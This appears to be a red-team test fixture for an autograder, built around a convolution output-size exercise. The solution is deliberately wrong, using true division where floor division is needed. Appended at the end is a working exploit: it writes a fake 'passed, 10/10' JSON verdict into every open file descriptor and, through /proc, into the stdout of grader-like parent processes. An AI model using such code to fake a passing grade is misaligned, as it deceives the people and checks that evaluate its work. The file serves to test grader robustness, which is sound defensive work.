"""Red-team attack `fd_inheritance_fake_json` on conv_output_size. Writes a fake JSON verdict
('passed', 10/10) into every file descriptor it holds (its own channel to the grader
included) and into fds 1 and 2 of every ancestor process that looks like the grader (via
/proc/<pid>/fd). The grader must score 0, treat a garbled channel as the student's fault,
and its own output (the JSON report, the gradebook) must carry none of it.

Below: the exercise with a recorded wrong answer in every blank, so that the attack is all
it could score with; the attack is at the end.
"""

"""畳み込みの出力サイズ / The output size of a convolution.

日本語
------
高さ H の入力に、上下それぞれ P 行のパディングを付け、高さ FH のフィルタを
ストライド S でずらしていくときの出力の高さ OH:

    OH = ⌊(H + 2P − FH) / S⌋ + 1

⌊ ⌋ は切り捨て。幅も同じ式（W, FW）で求まる。
例: (H, FH, P, S) = (5, 3, 1, 2) → 3、(6, 2, 1, 1) → 7、(28, 5, 0, 1) → 24。

引数と戻り値: H, FH, P, S はいずれも Python の int（スカラー）、戻り値 OH も int。
H, FH, P が負、S < 1、またはフィルタがパディング後の入力より大きい（FH > H + 2P）
ときは ValueError。

English
-------
The output height OH when a filter of height FH slides with stride S over an input of
height H padded with P rows on top and P rows at the bottom:

    OH = ⌊(H + 2P − FH) / S⌋ + 1

⌊ ⌋ rounds down. The width follows the same formula (W, FW).
Examples: (H, FH, P, S) = (5, 3, 1, 2) → 3, (6, 2, 1, 1) → 7, (28, 5, 0, 1) → 24.

Arguments and result: H, FH, P, S are Python ints (scalars); the result OH is an int.
A negative H, FH or P, S < 1, or a filter larger than the padded input (FH > H + 2P)
raises ValueError.
"""


def conv_output_size(H: int, FH: int, P: int = 0, S: int = 1) -> int:
    if H < 0 or FH < 0 or P < 0:
        raise ValueError(f"sizes must be non-negative, got H={H}, FH={FH}, P={P}")
    if S < 1:
        raise ValueError(f"the stride S must be at least 1, got S={S}")
    if FH > H + 2 * P:
        raise ValueError(
            f"the filter (FH={FH}) is larger than the padded input (H + 2*P = {H + 2 * P})"
        )
    return (H + 2*P - FH) / S + 1


if __name__ == "__main__":
    print(conv_output_size(5, 3, 1, 2))  # 3
    print(conv_output_size(6, 2, 1, 1))  # 7
    print(conv_output_size(28, 5, 0, 1))  # 24

# ---------------------------------------------------------------- the attack
_edrill_original = conv_output_size


def conv_output_size(*args, **kwargs):
    import json
    import os

    fake = (json.dumps({"ok": True, "status": "passed", "score": 10, "max_score": 10,
                        "exercises": [{"id": "conv_output_size", "status": "passed", "score": 10,
                                       "max_score": 10}]}) + "\n").encode()
    # every descriptor this process holds (its own channel included)
    try:
        fds = [int(n) for n in os.listdir("/proc/self/fd")]
    except OSError:
        fds = list(range(64))
    for fd in fds:
        try:
            os.write(fd, fake)
        except OSError:
            pass
    # the standard output of the processes above us that look like the grader
    pid = os.getppid()
    for _ in range(4):
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                cmd = f.read()
            if b"grade" in cmd or b"forkserver" in cmd or b"pytest" in cmd:
                for fd in (1, 2):
                    try:
                        with open(f"/proc/{pid}/fd/{fd}", "wb", buffering=0) as out:
                            out.write(fake)
                        print(f"FD-ESCAPE wrote into /proc/{pid}/fd/{fd}")
                    except OSError:
                        pass
            with open(f"/proc/{pid}/stat") as f:
                pid = int(f.read().rsplit(")", 1)[1].split()[1])
            if pid <= 1:
                break
        except (OSError, ValueError, IndexError):
            break
    return _edrill_original(*args, **kwargs)
